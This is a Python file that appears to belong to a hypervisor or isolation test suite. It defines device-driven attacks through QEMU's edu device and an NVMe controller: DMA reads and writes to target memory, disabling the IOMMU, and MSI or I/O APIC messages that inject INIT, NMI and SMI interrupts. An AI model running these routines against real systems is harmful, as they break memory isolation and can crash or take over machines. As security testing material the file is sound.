"""Attacks by devices that the service domain drives: DMA, and messages that are interrupts.

The devices are QEMU's edu (DMA anywhere, one MSI) and the scratch NVMe disk, taken from Linux.
"""
from attack import Attack, memory_changes
from victim import PATTERN, command, line

EDU = (0x1234, 0x11E8)
NVME = (0x1B36, 0x0010)
EDU_BUFFER = 0x40000
IOMMU = 0xFED80000
IOMMU_FUNCTION = 0x0008
MARK = 0x6B72614D6B72614D
INIT, NMI, SMI = 0x500, 0x400, 0x200
TRANSLATED = "iommu.strict=1 iommu.passthrough=0"


def _edu_transfer(victim, address, count, to_memory):
    """The shell line of one transfer between edu's buffer and memory that waits until the device is idle again."""
    _, base, _ = victim.find(*EDU)
    source, target = (EDU_BUFFER, address) if to_memory else (address, EDU_BUFFER)
    acts = line(("mmiow", base + 0x80, 8, source), ("mmiow", base + 0x88, 8, target),
                ("mmiow", base + 0x90, 8, count), ("mmiow", base + 0x98, 8, 3 if to_memory else 1))
    busy = command("mmio", base + 0x98, 4)
    return f"({acts}) >/dev/null; i=0; while [ $i -lt 200 ] && [ $((0x$({busy}) & 1)) = 1 ]; do i=$((i+1)); done"


def edu_fetch(victim, address, count):
    return _edu_transfer(victim, address, count, False)


def edu_store(victim, address, count):
    return _edu_transfer(victim, address, count, True)


def edu_write(victim, address, value, count=8):
    """edu writes `value` to an address: first it fetches the value from a page of the service domain's."""
    page = victim.alloc()
    victim.ring0("write", page, 8, value)
    victim.shell(edu_fetch(victim, page, count))
    victim.shell(edu_store(victim, address, count))


def dma_write(victim):
    target = victim.target()
    return memory_changes(victim, target, lambda: edu_write(victim, target, MARK))


def dma_read(victim):
    target, page = victim.target(), victim.alloc()
    victim.ring0("write", page, 8, PATTERN + 7)
    victim.shell(edu_fetch(victim, target, 8))
    victim.shell(edu_store(victim, page, 8))
    return victim.truth(page, 8) == victim.truth(target, 8)


def dma_to_configuration(victim):
    """Device to device: edu writes its own interrupt line register through memory-mapped configuration space."""
    function, _, _ = victim.find(*EDU)
    ecam = victim.config_read(0, 0x60, 4) & 0xF0000000
    before = victim.config_read(function, 0x3C, 1)
    edu_write(victim, ecam + (function << 12) + 0x3C, before ^ 0x15, 4)
    return victim.config_read(function, 0x3C, 1) != before


def nvme_write(victim):
    """The scratch disk, taken from Linux, is told to store its identification page at the target."""
    function, base, name = victim.find(*NVME)
    target, submission, completion = victim.target(), victim.alloc(), victim.alloc()
    victim.shell(f"echo {name} >/sys/bus/pci/drivers/nvme/unbind")
    victim.config_write(function, 4, 2, 0x0006)
    ready = command("mmio", base + 0x1C, 4)

    def wait_ready(wanted):
        victim.shell(f"i=0; while [ $i -lt 200 ] && [ $((0x$({ready}) & 1)) != {wanted} ]; do i=$((i+1)); done")

    victim.ring0("mmiow", base + 0x14, 4, 0)
    wait_ready(0)
    victim.acts(("mmiow", base + 0x24, 4, 0x000F000F), ("mmiow", base + 0x28, 8, submission),
                ("mmiow", base + 0x30, 8, completion), ("mmiow", base + 0x14, 4, 0x460001))
    wait_ready(1)
    victim.acts(("write", submission, 8, 0x10006), ("write", submission + 24, 8, target),
                ("write", submission + 40, 8, 1))
    return memory_changes(victim, target, lambda: victim.ring0("mmiow", base + 0x1000, 4, 1))


def iommu_off(victim):
    """Switch the IOMMU off by its registers, then DMA: in one line, since Linux loses its interrupts with it."""
    target, value = victim.target(), victim.alloc()
    victim.ring0("write", value, 8, MARK)
    return memory_changes(victim, target, lambda: victim.fire("; ".join(
        [command("mmiow", IOMMU + 0x18, 8, 0), edu_fetch(victim, value, 8), edu_store(victim, target, 8)])))


def iommu_message(victim):
    """The unit's own MSI is a plain write, past its own translation: aimed at the target."""
    target = victim.target()
    table, ring = victim.alloc(9), victim.alloc()

    def act():
        capability = 0x60
        victim.config_write(IOMMU_FUNCTION, 4, 2, 0x0006)
        victim.config_write(IOMMU_FUNCTION, capability + 4, 4, target & 0xFFFFFFFF)
        victim.config_write(IOMMU_FUNCTION, capability + 8, 4, target >> 32)
        victim.config_write(IOMMU_FUNCTION, capability + 12, 2, 0x4D4D)
        victim.config_write(IOMMU_FUNCTION, capability + 2, 2, 1)
        victim.write_bytes(ring, (1 << 60 | 2).to_bytes(8, "little") + bytes(8))  # completion wait, with interrupt
        victim.acts(("mmiow", IOMMU + 0x18, 8, 0), ("mmiow", IOMMU, 8, table | 0x1FF),
                    ("mmiow", IOMMU + 8, 8, ring | 8 << 56), ("mmiow", IOMMU + 0x2000, 8, 0),
                    ("mmiow", IOMMU + 0x2008, 8, 0), ("mmiow", IOMMU + 0x18, 8, 1 | 1 << 4 | 1 << 12),
                    ("mmiow", IOMMU + 0x2008, 8, 16))

    return memory_changes(victim, target, act)


def _message_capability(victim, function):
    capability = victim.config_read(function, 0x34, 1)
    while victim.config_read(function, capability, 1) != 5:
        capability = victim.config_read(function, capability + 1, 1)
    return capability


def edu_message(victim, data, address=0xFEE01000):
    """Programs edu's MSI (by default for processor 1) and makes the device send it."""
    function, base, _ = victim.find(*EDU)
    capability = _message_capability(victim, function)
    victim.config_write(function, capability + 4, 4, address)
    victim.config_write(function, capability + 8, 4, 0)
    victim.config_write(function, capability + 12, 2, data)
    victim.config_write(function, capability + 2, 2, 1)
    victim.fire(line(("mmiow", base + 0x60, 4, 1), ("mmiow", base + 0x64, 4, 1)))


def nmi_count(victim):
    return victim.shell("grep NMI: /proc/interrupts")


def message_init(victim):
    edu_message(victim, INIT)
    return victim.wait_for(lambda: victim.was_reset(1), 5)


def message_nmi(victim):
    before = nmi_count(victim)
    edu_message(victim, NMI)
    return victim.wait_for(lambda: nmi_count(victim) != before, 3)


def message_smi(victim):
    from by_chipset import plant_smi_handler
    target = victim.target()
    plant_smi_handler(victim, target)
    return memory_changes(victim, target, lambda: edu_message(victim, SMI))


def dma_init(victim):
    """The same INIT as a plain DMA write into the interrupt range."""
    victim.find(*EDU)
    page = victim.alloc()
    victim.ring0("write", page, 4, INIT)
    victim.shell(edu_fetch(victim, page, 4))
    victim.fire(edu_store(victim, 0xFEE01000, 4))
    return victim.wait_for(lambda: victim.was_reset(1), 5)


def _ioapic(victim, mode):
    """Points the I/O APIC's PCI pins at processor 1 with a delivery mode, then lets edu pull its pin."""
    ioapic = 0xFEC00000
    function, base, _ = victim.find(*EDU)
    victim.config_write(function, 4, 2, 0x0006)
    victim.config_write(function, _message_capability(victim, function) + 2, 2, 0)  # the pin, not a message
    acts = []
    for pin in range(16, 24):
        acts += [("mmiow", ioapic, 4, 0x11 + 2 * pin), ("mmiow", ioapic + 0x10, 4, 1 << 24),
                 ("mmiow", ioapic, 4, 0x10 + 2 * pin), ("mmiow", ioapic + 0x10, 4, mode | 1 << 15)]
    victim.fire(line(*acts, ("mmiow", base + 0x60, 4, 1), ("mmiow", base + 0x64, 4, 1)))


def ioapic_init(victim):
    _ioapic(victim, INIT)
    return victim.wait_for(lambda: victim.was_reset(1), 8)


def ioapic_nmi(victim):
    before = nmi_count(victim)
    _ioapic(victim, NMI)
    return victim.wait_for(lambda: nmi_count(victim) != before, 3)


ATTACKS = [
    Attack("dma-write", "device", dma_write),
    Attack("dma-read", "device", dma_read),
    Attack("dma-configuration", "device", dma_to_configuration),
    Attack("nvme-write", "device", nvme_write),
    Attack("iommu-off", "device", iommu_off, destructive=True, more=TRANSLATED),
    Attack("iommu-message", "device", iommu_message, destructive=True),
    Attack("message-init", "device", message_init, destructive=True),
    Attack("message-nmi", "device", message_nmi),
    Attack("message-smi", "device", message_smi, destructive=True, pc={"smm": True}),
    Attack("dma-init", "device", dma_init, destructive=True),
    Attack("ioapic-init", "device", ioapic_init, destructive=True),
    Attack("ioapic-nmi", "device", ioapic_nmi, destructive=True),
]
